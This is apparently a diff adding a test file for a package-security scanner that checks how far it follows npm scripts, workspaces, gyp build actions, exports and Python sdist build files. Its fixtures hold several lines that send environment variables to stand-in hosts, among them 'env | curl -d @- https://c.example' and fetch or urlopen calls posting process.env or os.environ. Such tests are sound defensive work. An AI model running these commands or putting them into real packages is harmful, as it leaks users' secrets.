@@ -1,0 +1,200 @@
+import t from 'tap'
+import type { ContentFacts } from '../../src/model/fact.ts'
+import type { ReadAs } from '../../src/model/artifact.ts'
+import { kindOf } from '../../src/model/artifact.ts'
+import { sha256 } from '../../src/model/digest.ts'
+import { packagesIn } from '../../src/ecosystems/npm/package/packages.ts'
+import { inspect } from '../../src/inspection/inspect.ts'
+import { readingOf } from './python-reading.ts'
+
+type Files = Readonly<Record<string, string>>
+
+const SENDS = `fetch('https://c.example/', { method: 'POST', body: JSON.stringify(process.env) })\n`
+const SEND = `node -e "fetch('https://c.example/' + JSON.stringify(process.env))"`
+const PIPE = 'env | curl -d @- https://c.example'
+const PYTHON_SENDS =
+  'import json, os, urllib.request\nurllib.request.urlopen("https://c.invalid", data=json.dumps(dict(os.environ)).encode())\n'
+
+/** `count` members, of which the last one is `last`. */
+function listed<T>(count: number, one: (at: number) => T, last: T): T[] {
+  return Array.from({ length: count }, (_, at) => (at === count - 1 ? last : one(at)))
+}
+
+const named = (names: readonly string[], contents: readonly string[]): Files =>
+  Object.fromEntries(names.map((name, at) => [name, contents[at] ?? '']))
+
+async function inspected(readAs: ReadAs, files: Files): Promise<ContentFacts> {
+  return inspect(readingOf(kindOf(readAs), files), { digest: sha256('x'), readAs })
+}
+
+const npm = (manifest: object, files: Files = {}): Promise<ContentFacts> =>
+  inspected('npm-tarball', {
+    'package.json': JSON.stringify({ name: 'sample', version: '1.0.0', ...manifest }),
+    ...files,
+  })
+
+/** Scripts that start one another, of which the last one sends. */
+function started(count: number): object {
+  const scripts = listed(count, (at) => `npm run s${at + 1}`, SEND).map((command, at) => [`s${at}`, command] as const)
+  return { scripts: Object.fromEntries([['postinstall', 'npm run s0'], ...scripts]) }
+}
+
+function workspaces(count: number): Promise<ContentFacts> {
+  const scripts = listed(count, () => 'true', SEND).map((x) => JSON.stringify({ scripts: { x } }))
+  const names = scripts.map((_, at) => `p${String(at).padStart(4, '0')}/package.json`)
+  return npm({ scripts: { postinstall: 'npm run x --workspaces' }, workspaces: ['*'] }, named(names, scripts))
+}
+
+function gyp(actions: readonly string[], expansions: readonly string[]): Promise<ContentFacts> {
+  const targets = actions.map((action, at) => ({
+    target_name: `t${at}`,
+    actions: [{ action_name: 'a', inputs: [], outputs: [], action: ['sh', '-c', action] }],
+  }))
+  const sources = expansions.map((command) => `<!(${command})`)
+  return npm({}, { 'binding.gyp': JSON.stringify({ targets: [...targets, { target_name: 'x', sources }] }) })
+}
+
+function conditions(count: number): Promise<ContentFacts> {
+  const names = listed(count, (at) => `f${at}.txt`, 'last.txt')
+  const exports = Object.fromEntries(names.map((name, at) => [`c${at}`, `./${name}`]))
+  return npm(
+    { exports },
+    named(
+      names,
+      listed(count, () => '1\n', SENDS),
+    ),
+  )
+}
+
+function guessed(count: number): Promise<ContentFacts> {
+  const names = listed(count, (at) => `l/f${String(at).padStart(4, '0')}.txt`, 'l/fz.txt')
+  const loads = { 'index.js': 'require(`./l/f${process.argv[2]}.txt`)' }
+  return npm({}, { ...loads, ...Object.fromEntries(names.map((name, at) => [name, at === count - 1 ? SENDS : '1\n'])) })
+}
+
+function nested(depth: number): Promise<ContentFacts> {
+  let exports: unknown = './f.txt'
+  for (let at = 0; at < depth; at += 1) exports = { node: exports }
+  return npm({ exports }, { 'f.txt': SENDS })
+}
+
+/** The command is behind so many characters. */
+const long = (length: number): Promise<ContentFacts> =>
+  npm({ scripts: { postinstall: `${'true; '.repeat(Math.floor(length / 6)).padEnd(length)}${PIPE}` } })
+
+/** How many are followed or read, and what is told of one more: never nothing. */
+const TABLE: readonly (readonly [
+  situation: string,
+  limit: number,
+  make: (count: number) => Promise<ContentFacts>,
+  beyond: 'found' | 'opaque-program' | 'not-examined',
+])[] = [
+  ['scripts that start one another', 9, (count) => npm(started(count)), 'opaque-program'],
+  ['packages in folders', 500, workspaces, 'opaque-program'],
+  [
+    'actions of a build',
+    200,
+    (count) =>
+      gyp(
+        listed(count, () => 'true', PIPE),
+        [],
+      ),
+    'opaque-program',
+  ],
+  [
+    'commands in values of a build',
+    200,
+    (count) =>
+      gyp(
+        [],
+        listed(count, (at) => `node t${at}.js`, PIPE),
+      ),
+    'opaque-program',
+  ],
+  ['a long command', 20_000 - PIPE.length, long, 'opaque-program'],
+  ['files that one name stands for', 300, conditions, 'not-examined'],
+  ['files that a name may stand for', 300, guessed, 'not-examined'],
+  ['conditions in one another', 40, nested, 'found'],
+]
+
+const sends = ({ findings }: ContentFacts): boolean =>
+  findings.some(({ check, severity }) => check === 'secrets-exfiltration' && severity === 'critical')
+
+/** Checks that found what may be refused. */
+const told = ({ findings }: ContentFacts): readonly string[] =>
+  findings.filter(({ severity }) => severity !== 'low' && severity !== 'info').map(({ check }) => check)
+
+t.test('what is beyond a limit of the way through a package is told of', async (t) => {
+  for (const [situation, limit, make, beyond] of TABLE) {
+    const [within, over] = [await make(limit), await make(limit + 1)]
+    t.ok(sends(within), `${situation}: ${limit}`)
+    t.notOk(told(within).includes('opaque-program') || told(within).includes('not-examined'), `${situation}: all read`)
+    if (beyond === 'found') t.ok(sends(over), `${situation}: one more`)
+    else t.ok(told(over).includes(beyond), `${situation}: one more is told of`)
+  }
+})
+
+const bundled = (last: object, count: number): Files =>
+  Object.fromEntries(
+    listed<object>(count, () => ({}), last).map((more, at) => [
+      `node_modules/p${String(at).padStart(5, '0')}/package.json`,
+      JSON.stringify({ name: 'p', version: '1.0.0', ...more }),
+    ]),
+  )
+
+t.test('of more bundled packages than are looked at, those are that run or fetch something', async (t) => {
+  const table: readonly [situation: string, last: object, count: number, found: boolean][] = [
+    ['as many as are looked at', {}, 2000, true],
+    ['one more', {}, 2001, false],
+    ['one more, which runs a script', { scripts: { postinstall: 'node x.js' } }, 2001, true],
+    ['one more, which is fetched around the registry', { dependencies: { x: 'git+ssh://git.example/x' } }, 2001, true],
+    ['one more, with versions of others', { dependencies: { '@a/x': '^1.0.0' } }, 2001, false],
+  ]
+  for (const [situation, last, count, found] of table) {
+    const reading = readingOf('npm-tarball', { 'package.json': '{"name":"sample"}', ...bundled(last, count) })
+    t.equal(packagesIn(reading).length, found ? count + 1 : count, situation)
+  }
+})
+
+/** A project that says what its build runs or fetches, behind so many bytes. */
+const DECLARED: readonly (readonly [file: string, text: string, remark: string, more: Files, check: string])[] = [
+  [
+    'pyproject.toml',
+    '[build-system]\nrequires = []\nbuild-backend = "own"\nbackend-path = ["."]\n',
+    '# ',
+    { 'own.py': PYTHON_SENDS },
+    'secrets-exfiltration',
+  ],
+  ['setup.cfg', '[metadata]\nversion = attr: own.v\n', '# ', { 'own.py': PYTHON_SENDS }, 'secrets-exfiltration'],
+  ['setup.cfg', '[options]\nsetup_requires =\n  x @ https://c.invalid/x.tgz\n', '# ', {}, 'direct-dependencies'],
+]
+
+t.test('what says how an sdist is built is read up to so many bytes, and told of where it is longer', async (t) => {
+  const most = 4_000_000
+  for (const [file, text, remark, more, check] of DECLARED) {
+    const sdist = (bytes: number): Promise<ContentFacts> =>
+      inspected('sdist-gzip', {
+        'PKG-INFO': 'Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n',
+        'setup.py': 'from setuptools import setup\nsetup()\n',
+        [file]: `${text}${remark}`.padEnd(bytes - 1, 'x').concat('\n'),
+        ...more,
+      })
+    const [within, over] = [await sdist(most), await sdist(most + 1)]
+    t.ok(told(within).includes(check), `${file}: ${check}`)
+    t.notOk(told(within).includes('unreadable-manifest'), file)
+    t.ok(told(over).includes('unreadable-manifest'), `${file}: one byte more`)
+  }
+})
+
+t.test('what is no TOML is told of, and no wheel is asked for it', async (t) => {
+  const files = {
+    'pyproject.toml': '[build-system\n',
+    'PKG-INFO': 'Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n',
+  }
+  const { findings } = await inspected('sdist-gzip', files)
+  t.match(
+    findings.filter(({ check }) => check === 'unreadable-manifest'),
+    [{ severity: 'medium', message: /^pyproject.toml does not parse/ }],
+  )
+  t.notOk(told(await inspected('wheel', files)).includes('unreadable-manifest'))
+})
